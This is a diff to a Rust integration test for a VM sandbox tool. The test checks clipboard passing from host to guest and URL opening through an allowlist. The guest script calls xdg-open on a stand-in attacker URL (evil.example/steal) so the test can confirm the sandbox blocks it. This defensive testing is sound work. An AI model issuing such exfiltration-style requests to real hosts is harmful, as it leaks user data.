@@ -129,6 +129,11 @@ nix::ioctl_write_ptr_bad!(set_winsize, libc::TIOCSWINSZ, libc::winsize);
 
 impl Terminal {
     fn start(env: &Env, args: &[&str]) -> Self {
+        Self::start_with(env, args, &[])
+    }
+
+    /// With extra environment variables for faize (e.g. DISPLAY).
+    fn start_with(env: &Env, args: &[&str], vars: &[(&str, &str)]) -> Self {
         let ws = libc::winsize { ws_row: 30, ws_col: 100, ws_xpixel: 0, ws_ypixel: 0 };
         let pty = nix::pty::openpty(Some(&ws), None).unwrap();
         for fd in [&pty.master, &pty.slave] {
@@ -137,6 +142,7 @@ impl Terminal {
         }
         let mut cmd = env.faize();
         cmd.args(args)
+            .envs(vars.iter().copied())
             .env("TERM", "xterm")
             .stdin(Stdio::from(pty.slave.try_clone().unwrap()))
             .stdout(Stdio::from(pty.slave.try_clone().unwrap()))
@@ -990,4 +996,160 @@ fn claude_rebuild_bakes_in_extra_packages_and_a_failed_build_keeps_the_old_image
     assert!(!se.contains("extra_deps changed"), "{se}");
     let listing = text(&faize(&["artifacts"]).stdout);
     assert!(listing.lines().any(|l| l.starts_with("claude") && l.contains("extra-deps=hello")), "{listing}");
+}
+
+/// A virtual X display (Xvfb) with the host's clipboard tool, stopped when dropped.
+struct Display {
+    xvfb: std::process::Child,
+    name: String,
+}
+
+impl Display {
+    fn start() -> Self {
+        let n = 90 + std::process::id() % 100;
+        let name = format!(":{n}");
+        let xvfb = std::process::Command::new("Xvfb")
+            .args([&name, "-nolisten", "tcp", "-screen", "0", "640x480x24"])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("Xvfb (./setup.sh installs it)");
+        let start = Instant::now();
+        while !std::path::Path::new(&format!("/tmp/.X11-unix/X{n}")).exists() {
+            assert!(start.elapsed() < Duration::from_secs(10), "Xvfb did not start");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Display { xvfb, name }
+    }
+
+    /// Puts `data` on the clipboard as `mime` (xclip keeps serving it in the background).
+    fn set(&self, mime: &str, data: &[u8]) {
+        let mut c = std::process::Command::new("xclip")
+            .args(["-selection", "clipboard", "-t", mime, "-i"])
+            .env("DISPLAY", &self.name)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("xclip (./setup.sh installs it)");
+        c.stdin.take().unwrap().write_all(data).unwrap();
+        assert!(c.wait().unwrap().success());
+    }
+
+    fn get(&self) -> String {
+        let out = std::process::Command::new("xclip")
+            .args(["-selection", "clipboard", "-o"])
+            .env("DISPLAY", &self.name)
+            .output()
+            .unwrap();
+        text(&out.stdout)
+    }
+}
+
+impl Drop for Display {
+    fn drop(&mut self) {
+        let _ = self.xvfb.kill();
+        let _ = self.xvfb.wait();
+    }
+}
+
+#[test]
+fn ctrl_v_hands_the_guest_the_host_clipboard_and_urls_go_through_the_host() {
+    if !vm_tests_enabled() {
+        return;
+    }
+    let env = Env::new();
+    let display = Display::start();
+    let project = tempfile::tempdir().unwrap();
+    let p = project.path().to_str().unwrap();
+    let stub = project.path().join("browser.sh");
+    let opened = project.path().join("opened.txt");
+    std::fs::write(&stub, format!("#!/bin/sh\necho \"$1\" >> '{}'\n", opened.display())).unwrap();
+    std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // Bigger than one clipboard chunk (512 KiB) to the guest.
+    let png: Vec<u8> = (0..700_000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8).collect();
+    let want_png = {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("x"), &png).unwrap();
+        text(&std::process::Command::new("sha256sum").arg(dir.path().join("x")).output().unwrap().stdout)[..16]
+            .to_string()
+    };
+    display.set("image/png", &png);
+
+    // Each step waits for one raw key (the Ctrl+V itself, which must reach the program); the
+    // terminal is raw before the step says it is ready.
+    let script = r#"
+        key() { stty raw -echo; echo "$1"; k=$(dd bs=1 count=1 2>/dev/null | od -An -tx1 | tr -d ' '); stty sane; echo "key=$k"; }
+        key ready-1
+        echo "targets=$(xclip -selection clipboard -t TARGETS -o | tr '\n' ,)"
+        echo "png=$(xclip -selection clipboard -t image/png -o | sha256sum | cut -c1-16)"
+        echo "wl-types=$(wl-paste --list-types | tr '\n' ,)"
+        wl-paste --type text/html >/dev/null 2>&1; echo "absent-type-rc=$?"
+        key ready-2
+        echo "text=$(xclip -selection clipboard -o)/$(xsel -b -o)/$(wl-paste)"
+        key ready-3
+        xclip -selection clipboard -t TARGETS -o >/dev/null 2>&1; echo "empty-rc=$?"
+        wl-paste >/dev/null 2>&1; echo "wl-empty-rc=$?"
+        echo guest-copy | xclip -selection clipboard -i; echo "copy-rc=$?"
+        xdg-open 'https://evil.example/steal?x=1'; echo "evil-rc=$?"
+        "$BROWSER" 'https://claude.ai/oauth/authorize?code=1'; echo "allowed-rc=$?"
+        echo all-done
+    "#;
+    let stub_s = stub.to_str().unwrap();
+    let mut t = Terminal::start_with(
+        &env,
+        &["start", "--cpus", "1", "-p", p, "--", "bash", "-c", script],
+        &[("DISPLAY", &display.name), ("FAIZE_BROWSER", stub_s)],
+    );
+    t.wait_for("ready-1", Duration::from_secs(120));
+    t.type_("\x16");
+    t.wait_for("ready-2", Duration::from_secs(60));
+    display.set("UTF8_STRING", "hello from the host".as_bytes());
+    t.type_("\x16");
+    t.wait_for("ready-3", Duration::from_secs(60));
+    display.set("UTF8_STRING", b"");
+    t.type_("\x16");
+    t.wait_for("all-done", Duration::from_secs(60));
+    assert_eq!(t.wait_exit(Duration::from_secs(60)), 0, "{}", t.screen());
+    let screen = t.screen();
+    for want in [
+        "key=16".to_string(),
+        "targets=TARGETS,image/png,".to_string(),
+        format!("png={want_png}"),
+        "wl-types=image/png,".to_string(),
+        "absent-type-rc=1".to_string(),
+        "text=hello from the host/hello from the host/hello from the host".to_string(),
+        "empty-rc=1".to_string(),
+        "wl-empty-rc=1".to_string(),
+        "copy-rc=0".to_string(),
+        "evil-rc=0".to_string(),
+        "allowed-rc=0".to_string(),
+        "faize: the VM asks to open https://evil.example/steal?x=1".to_string(),
+        "not opened (evil.example is not in open_urls)".to_string(),
+    ] {
+        assert!(screen.contains(&want), "expected {want:?}:\n{screen}");
+    }
+    assert_eq!(screen.matches("key=16").count(), 3, "{screen}");
+    // Only the allowed URL reached the browser; the guest's copy did not reach the host.
+    let start = Instant::now();
+    while !opened.exists() && start.elapsed() < Duration::from_secs(5) {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(std::fs::read_to_string(&opened).unwrap(), "https://claude.ai/oauth/authorize?code=1\n");
+    assert!(!display.get().contains("guest-copy"), "copy_to_host is off by default");
+    let id = ps(&env)[0]["id"].as_str().unwrap().to_string();
+    let log = std::fs::read_to_string(env.home.path().join("sessions").join(&id).join("requests.jsonl")).unwrap();
+    assert!(log.contains("\"decision\":\"shown\"") && log.contains("\"decision\":\"opened\""), "{log}");
+    assert!(log.contains("\"event\":\"copy\""), "{log}");
+
+    // No display at all: Ctrl+V still reaches the program, and nothing hangs.
+    let mut t = Terminal::start(&env, &["start", "--cpus", "1", "-p", p, "--", "bash", "-c", script]);
+    t.wait_for("ready-1", Duration::from_secs(120));
+    let pressed = Instant::now();
+    t.type_("\x16");
+    t.wait_for("key=16", Duration::from_secs(30));
+    assert!(pressed.elapsed() < Duration::from_secs(10));
+    t.wait_for("absent-type-rc", Duration::from_secs(30));
+    let after = t.screen().split("targets=").nth(1).unwrap_or_default().to_string();
+    assert!(after.starts_with(['\r', '\n']), "the guest clipboard is empty: {}", t.screen());
 }
